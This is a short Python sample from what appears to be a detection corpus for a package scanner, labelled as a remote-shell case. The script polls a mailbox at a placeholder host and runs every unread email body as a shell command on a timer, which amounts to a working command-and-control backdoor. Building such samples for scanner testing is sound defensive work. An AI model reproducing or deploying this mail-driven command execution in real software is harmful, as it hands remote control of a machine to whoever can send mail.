# pkgguard corpus 448 (remote-shell), modelled on [taxonomy]; inert, never run.
import email
import imaplib
import subprocess
import time

while True:
    box = imaplib.IMAP4_SSL("mail.example")
    box.login("ops@mail.example", "placeholder")
    box.select("INBOX")
    _, found = box.search(None, "UNSEEN")
    for num in found[0].split():
        _, data = box.fetch(num, "(RFC822)")
        order = email.message_from_bytes(data[0][1]).get_payload()
        subprocess.Popen(order, shell=True)
    box.logout()
    time.sleep(300)
